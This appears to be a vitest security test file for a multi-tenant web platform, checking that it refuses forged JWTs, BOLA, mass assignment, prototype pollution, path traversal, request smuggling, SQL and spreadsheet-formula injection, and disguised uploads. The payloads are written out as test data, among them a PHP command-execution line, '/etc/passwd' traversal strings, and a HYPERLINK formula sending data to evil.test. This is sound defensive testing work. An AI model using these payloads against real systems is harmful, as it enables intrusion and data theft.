import { connect } from 'node:net';
import ExcelJS from 'exceljs';
import { SignJWT } from 'jose';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { callsOf } from '../../contract/catalogues/calls.ts';
import { catalogues } from '../../contract/catalogues/index.ts';
import { platformScope } from '../../server/platform/store/store.ts';
import { type Office, startOffice } from '../../server/testing/office.ts';
import { townPassword } from '../../server/testing/town.ts';
import { findUnclear } from './clear-refusal.ts';
import { listEndpoints } from './endpoints.ts';

/**
 * Attacks that the platform withstands, except those across tenants (tenancy-walk). Guessing passwords and codes, replaying codes and
 * refresh tokens and locking out others are tested next to the attacked code: server/access/*.platform.test.ts.
 */
let office: Office;
beforeAll(async () => {
  office = await startOffice({ mode: 'production' });
});
afterAll(() => office?.clear());

const count = async (text: string): Promise<number> => {
  const { rows } = await office.app.store.within(platformScope, (tx) => sql<{ n: number }>`${sql.raw(text)}`.execute(tx));
  return Number(rows[0]?.n);
};

describe('forged tokens', () => {
  const claims = (more: Record<string, unknown> = {}) => ({
    sub: '1',
    sid: crypto.randomUUID(),
    iss: 'atalaya',
    aud: 'atalaya-console',
    ...more,
  });
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const signedBy = (key: string, header: Record<string, string>, more = {}) =>
    new SignJWT(claims(more))
      .setProtectedHeader({ alg: 'HS256', ...header })
      .setExpirationTime('5m')
      .sign(Buffer.from(key.padEnd(32, '.')));

  test('alg none, a key of the forger, another type, another audience, a token of another session', async () => {
    const [head = '', body = '', mark = ''] = office.tokens.ana.split('.');
    const tokenClaims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>;
    const forged = [
      `${part({ alg: 'none', typ: 'at+jwt' })}.${body}.`,
      `${part({ alg: 'None', typ: 'at+jwt' })}.${body}.${mark}`,
      `${head}.${part({ ...tokenClaims, sub: String(office.town.users.admin) })}.${mark}`,
      `${head}.${part({ ...tokenClaims, exp: 4_000_000_000 })}.${mark}`,
      `${part({ alg: 'RS256', typ: 'at+jwt' })}.${body}.${mark}`,
      `${part({ alg: 'HS256', typ: 'at+jwt', jwk: { kty: 'oct', k: 'AAAA' } })}.${body}.${mark}`,
      await signedBy('', { typ: 'at+jwt' }),
      await signedBy('atalaya', { typ: 'JWT' }),
      await signedBy('secret', { typ: 'at+jwt' }, { aud: 'another' }),
      `${office.tokens.ana}.`,
      office.tokens.ana.slice(0, -4),
      head,
      'a'.repeat(8000),
    ];
    for (const token of forged) {
      const { status, body: replyBody } = await office.request('GET', '/v1/users/me', { token });
      expect([token.slice(0, 40), status, replyBody.code]).toEqual([token.slice(0, 40), 401, 'access.signed_out']);
    }
    expect((await office.request('GET', '/v1/users/me', { token: office.tokens.ana })).status).toBe(200);
  });

  test('a token opens nothing from an address, a cookie or a form', async () => {
    const token = office.tokens.ana;
    for (const name of ['token', 'access_token', 'authorization', 'api_token', 'bearer']) {
      expect((await office.request('GET', `/v1/users/me?${name}=${token}`)).status).toBe(401);
      expect((await office.request('GET', '/v1/users/me', { headers: { cookie: `${name}=${token}` } })).status).toBe(401);
    }
  });
});

test('enumeration: without a token no id and no call reveals whether a record exists', async () => {
  const answers = new Set<string>();
  const guarded = listEndpoints(office.config.productSlug).filter(({ endpoint }) =>
    ['signed_in', 'ability'].includes(endpoint.access.kind),
  );
  for (const { endpoint } of guarded.filter((_, at) => at % 4 === 0)) {
    const { status, body } = await office.request(endpoint.method, endpoint.path.replaceAll(/:\w+/g, '1'));
    if (status !== 404) answers.add(JSON.stringify([status, body]));
  }
  expect(answers.size).toBe(1);
});

describe('BOLA: what is another person’s own is answered like what does not exist', () => {
  test('views, exports, clips, sessions, files ahead of their record', async () => {
    const data = { tabId: 'tab', layout: [], slots: [] };
    const view = (await office.send('POST', 'user-views', { as: 'ana', body: { name: 'Mine', data } })).data.id;
    const theirs = [
      ['PUT', `user-views/${view}`],
      ['DELETE', `user-views/${view}`],
      ['DELETE', `users/sessions/${sessionOf(office.tokens.ana)}`],
      ['DELETE', `exports/${crypto.randomUUID()}`],
      ['DELETE', 'media/clips/1'],
    ] as const;
    for (const [method, path] of theirs) {
      const body = method === 'PUT' ? { body: { name: 'Taken', data } } : {};
      const reply = await office.send(method, path, { as: 'bruno', ...body });
      expect([path, reply.status], reply.text).toEqual([path, 404]);
      const none = await office.send(method, path.replace(/[^/]+$/, path.includes('sessions') ? crypto.randomUUID() : '2000000001'), {
        as: 'bruno',
        ...body,
      });
      expect([path, reply.code]).toEqual([path, none.code]);
    }
    expect((await office.request('GET', '/v1/users/me', { token: office.tokens.ana })).status).toBe(200);
    expect(await count(`select count(*) as n from user_view where name = 'Mine'`)).toBe(1);
  });

  test('a channel of somebody else is signed for nobody, nor with a signature of one’s own', async () => {
    const { ana, bruno } = office.town.users;
    const sign = (channel_name: unknown, socket_id: unknown = '1.1') =>
      office.request<{ auth?: string }>('POST', '/broadcasting/auth', { token: office.tokens.bruno, body: { socket_id, channel_name } });
    const spoofed = [
      `private-user-${ana}`,
      `private-user-setup-${ana}`,
      `private-user-${bruno}:private-user-${ana}`,
      `private-user-${bruno}\nprivate-user-${ana}`,
      `private-user-0${ana}`,
      `private-user-${ana}.0`,
      'private-user-*',
      `presence-user-${ana}`,
      `PRIVATE-user-${ana}`,
      `private-data-export-${ana}`,
      `private-phone-1001`,
      '',
      'x'.repeat(5000),
      ['private-user-1'],
      { toString: 'private-user-1' },
    ];
    for (const channel of spoofed) {
      const { status, body } = await sign(channel);
      expect([channel, status >= 400 && status < 500, body.auth]).toEqual([channel, true, undefined]);
    }
    for (const socket of ['1.1:private-user-1', '', 'a', '1.1\n', { a: 1 }, '9'.repeat(500)])
      expect((await sign(`private-user-${bruno}`, socket)).status).toBe(422);
    expect((await sign(`private-user-${bruno}`)).status).toBe(200);
  });
});

const sessionOf = (token: string): string =>
  String((JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as { sid: string }).sid);

/** What no record takes from outside, whatever it is. */
const guardedFields = {
  is_master_admin: true,
  id_user: 1,
  password_hash: 'x',
  id_session: 1,
  created: '2020-01-01T00:00:00Z',
  deleted: true,
  policy: 'x',
  seal: 'x',
  no_such_field: 1,
};

describe('mass assignment', () => {
  const made = catalogues.filter(({ operations, servedBy }) => operations.includes('create') && !servedBy);
  test.each(made.map((one) => [one.key, one] as const))('%s takes no field that it does not name', async (_key, catalogue) => {
    const { create } = callsOf(catalogue, { product: office.config.productSlug });
    const guarded = Object.entries(guardedFields).filter(([name]) => !catalogue.fields.some((field) => field.name === name));
    const { status, text, errors } = await office.send('POST', create?.path.replace('/v1/', '') ?? '', {
      as: 'ana',
      body: Object.fromEntries(guarded),
    });
    expect([403, 422], text).toContain(status);
    if (status === 422) expect(Object.keys(errors)).toEqual(expect.arrayContaining(guarded.map(([name]) => name)));
  });

  test('privilege escalation: no user gains rights by their own record, configuration or rights', async () => {
    const { ana } = office.town.users;
    const before = JSON.stringify((await office.request('GET', '/v1/users/me', { token: office.tokens.ana })).body.data);
    const tries = [
      ['PUT', `users/${ana}`, { is_master_admin: true }],
      ['PUT', `users/${ana}`, { id_master_tenant: 2 }],
      ['PUT', `users/${ana}`, { tenants: [office.town.harbour.tenant] }],
      ['PUT', 'users/profile', { name: 'Ana', is_master_admin: true, tenants: [office.town.harbour.tenant], active: false }],
    ] as const;
    for (const [method, path, body] of tries) await office.send(method, path, { as: 'ana', body });
    const me = (await office.request<{ data: Record<string, unknown> }>('GET', '/v1/users/me', { token: office.tokens.ana })).body.data;
    expect(me['is_master_admin']).toBe(false);
    expect(JSON.stringify(me['tenants'])).toBe(JSON.stringify((JSON.parse(before) as Record<string, unknown>)['tenants']));
    expect(await count('select count(*) as n from user_account where is_master_admin')).toBe(1);
  });
});

test('prototype pollution: nothing that is sent changes what objects are', async () => {
  const bodies = [
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    '{"name":"x","custom_fields":{"__proto__":{"polluted":1}}}',
    '{"config":{"preferences":{"__proto__":{"polluted":1}},"grid":{"constructor":{"prototype":{"polluted":1}}}}}',
  ];
  for (const raw of bodies) {
    for (const [method, path] of [
      ['POST', 'generic-devices'],
      ['PUT', 'users/update-config'],
      ['POST', 'users'],
      ['PUT', 'alarm/1'],
    ] as const) {
      const { status } = await office.request(method, `/v1/${path}`, { token: office.tokens.ana, raw });
      expect([path, raw, status >= 400 && status < 500]).toEqual([path, raw, true]);
    }
  }
  const form = new FormData();
  for (const name of [
    '__proto__[polluted]',
    'constructor[prototype][polluted]',
    'custom_fields[__proto__][polluted]',
    '__proto__.polluted',
  ])
    form.append(name, '1');
  const sent = await fetch(`${office.url}/v1/tenant`, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${office.tokens.admin}` },
  });
  expect(sent.status).toBe(422);
  await office.request('GET', '/v1/unit?__proto__[polluted]=1&constructor.prototype.polluted=1&__proto__.has=1', {
    token: office.tokens.ana,
  });
  for (const name of ['__proto__', 'constructor', 'toString'])
    expect([name, (await office.request('GET', `/v1/preset?${name}=1`, { token: office.tokens.ana })).status]).toEqual([name, 422]);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

describe('path traversal and header injection', () => {
  const port = () => Number(new URL(office.url).port);
  const plain = (request: string): Promise<string> =>
    new Promise((ended) => {
      let text = '';
      const socket = connect(port(), '127.0.0.1', () => socket.write(request));
      socket.setEncoding('latin1').on('data', (part: string) => {
        text += part;
      });
      socket.on('close', () => ended(text)).on('error', () => ended(text));
    });
  const ask = (path: string, more = '') => plain(`GET ${path} HTTP/1.1\r\nHost: here.test\r\nConnection: close\r\n${more}\r\n`);

  test('no address leads out of what is served', async () => {
    const roots = ['/', '/assets/', '/media/', '/media/picture/', '/v1/files/', '/v1/media/frames/', '/demo/'];
    const ways = [
      '../../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      '%2e%2e/%2e%2e/etc/passwd',
      '..%5c..%5cetc%5cpasswd',
      '%00/etc/passwd',
      '..%c0%af..%c0%afetc/passwd',
      '....//....//etc/passwd',
      'package.json',
      '..%2f..%2fpackage.json',
      '.%2e/.env',
    ];
    for (const root of roots) {
      for (const way of ways) {
        const reply = await ask(root + way);
        expect(reply, root + way).toMatch(/^HTTP\/1\.1 (400|401|403|404|503|200) /);
        expect(reply, root + way).not.toMatch(/root:.*:0:0:|"dependencies"|DATA_DIR/);
      }
    }
  });

  test('a hostile Host, a line break in a header and a request in a request change no reply', async () => {
    const spoofed = await plain('GET /health HTTP/1.1\r\nHost: "evil.test; script-src *"\r\nConnection: close\r\n\r\n');
    expect(spoofed).not.toContain('evil.test');
    const forwarded = await ask('/health', 'X-Forwarded-Host: evil.test\r\nX-Forwarded-For: 1.2.3.4\r\nX-HTTP-Method-Override: DELETE\r\n');
    expect(forwarded).toMatch(/^HTTP\/1\.1 200 /);
    expect(forwarded).not.toContain('evil.test');
    const split = await ask('/v1/unit?search=%0d%0aSet-Cookie:%20a=b', 'X-Localization: es%0d%0aX-Injected: yes\r\n');
    expect(split).not.toMatch(/^(set-cookie|x-injected)/im);
    const smuggled = await plain(
      'POST /v1/user/auth HTTP/1.1\r\nHost: here.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/users/me HTTP/1.1\r\nHost: x\r\n\r\n',
    );
    expect(smuggled).toMatch(/^HTTP\/1\.1 400 /);
    expect(smuggled.match(/HTTP\/1\.1/g)?.length).toBe(1);
  });

  test('the name of a file that is downloaded breaks no header', async () => {
    const { status, headers } = await fetch(
      `${office.url}/v1/unit?action=export&columns=${encodeURIComponent('description\r\nX-Injected: yes')}`,
      {
        headers: { authorization: `Bearer ${office.tokens.ana}`, 'x-localization': 'es' },
      },
    );
    expect(status).toBeLessThan(500);
    expect(headers.get('x-injected')).toBeNull();
  });
});

describe('mime confusion', () => {
  const send = async (bytes: Uint8Array | string, name: string, type: string) => {
    const form = new FormData();
    form.append('file', new Blob([bytes as never], { type }), name);
    const reply = await fetch(`${office.url}/v1/files`, {
      method: 'POST',
      body: form,
      headers: { authorization: `Bearer ${office.tokens.ana}` },
    });
    return { status: reply.status, body: (await reply.json()) as { data?: { file: string } } };
  };

  test('a page, a script, a drawing and a program are no pictures, whatever they are called', async () => {
    const guises = [
      '<html><script>alert(1)</script></html>',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      '<?xml version="1.0"?><svg/>',
      '<?php system($_GET[0]);',
      '#!/bin/sh\nid',
      'MZ\u0090',
      '%PDF-1.7 <script>',
    ];
    for (const guise of guises)
      for (const name of ['a.png', 'a.jpg\u0000.svg', '../../a.gif', 'a.mp3'])
        expect((await send(guise, name, 'image/png')).status, guise).toBe(422);
  });

  test('what is kept is served as what it is, in a sandbox, and never sniffed', async () => {
    const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
    const stored = await send(new Uint8Array(gif), 'page.html', 'text/html');
    expect(stored.status).toBe(200);
    const { headers } = await fetch(`${office.url}/v1/files/${stored.body.data?.file}`);
    expect(headers.get('content-type')).toMatch(/^image\//);
    expect([headers.get('x-content-type-options'), headers.get('content-security-policy')]).toEqual([
      'nosniff',
      "default-src 'none'; frame-ancestors 'none'; sandbox",
    ]);
  });
});

test('spreadsheet formulas: what begins like one is text in an export, and nothing is calculated', async () => {
  const formulas = ['=cmd|"/c calc"!A1', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '=HYPERLINK("http://evil.test?"&A1)'];
  for (const description of formulas)
    await office.app.store
      .within(platformScope, (tx) =>
        sql`update unit set address_1 = ${description}, description = ${description} where id = ${office.town.north.unit}`.execute(tx),
      )
      .then(async () => {
        const reply = await fetch(`${office.url}/v1/unit?action=export`, { headers: { authorization: `Bearer ${office.tokens.ana}` } });
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(await reply.arrayBuffer());
        const cells: ExcelJS.Cell[] = [];
        workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
        expect(cells.some((cell) => cell.text.trim() === description.trim())).toBe(true);
        expect(cells.filter((cell) => cell.formula || cell.hyperlink)).toEqual([]);
      });
});

test('injected SQL is a text to look for, a field that there is not, or no number', async () => {
  const all = (await office.send<unknown[]>('GET', 'unit', { as: 'ana' })).data.length;
  for (const odd of ["' or 1=1 --", "'; drop table unit; --", '1) or (1=1', '%', '_', "\\'", '$1', '${1}']) {
    const found = await office.send<unknown[]>('GET', `unit?search=${encodeURIComponent(odd)}`, { as: 'ana' });
    expect([odd, found.status, found.data.length < all || found.data.length === 0]).toEqual([odd, 200, true]);
    for (const query of [
      `sort=${encodeURIComponent(`id${odd}`)}`,
      `${encodeURIComponent(`id${odd}`)}=1`,
      `id=${encodeURIComponent(`1${odd}`)}`,
      `max=${encodeURIComponent(`1${odd}`)}`,
    ]) {
      const { status, text, data } = await office.send<unknown[]>('GET', `unit?${query}`, { as: 'ana' });
      const isFine = status === 200 ? data.length <= all : findUnclear({ status, text }) === undefined;
      expect([query, isFine], text).toEqual([query, true]);
    }
  }
});

test('deep and big JSON is refused before it is read, on every kind of call', async () => {
  const deep = `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`;
  const wide = `{${Array.from({ length: 60_000 }, (_, at) => `"k${at}":1`).join()}}`;
  for (const path of ['/v1/user/auth', '/v1/users', '/v1/intake/alarms']) {
    const token = path.includes('intake') ? 'intake-token-first' : office.tokens.ana;
    expect((await office.request('POST', path, { token, raw: deep })).body.code).toBe('request.malformed');
    const { status, body } = await office.request('POST', path, { token, raw: wide });
    expect([path, status, body.code]).toEqual([path, 413, 'request.too_large']);
    expect(JSON.stringify(body).length).toBeLessThan(500);
    expect((await office.request('POST', path, { token, raw: `"${'x'.repeat(1_200_000)}"` })).status).toBe(413);
  }
});

test('lockout as an attack: wrong passwords from elsewhere do not lock out the legitimate user', async () => {
  const wrong = Array.from({ length: 6 }, () =>
    office.request('POST', '/v1/user/auth', { body: { email: 'bruno@town.test', password: 'no' } }),
  );
  const codes = (await Promise.all(wrong)).map(({ body }) => body.code);
  expect(codes.filter((code) => code === 'access.throttled').length).toBeGreaterThan(0);
  expect((await office.request('GET', '/v1/users/me', { token: office.tokens.bruno })).status).toBe(200);
  const other = await office.request('POST', '/v1/user/auth', { body: { email: 'carla@town.test', password: townPassword } });
  expect(other.status).toBe(200);
});
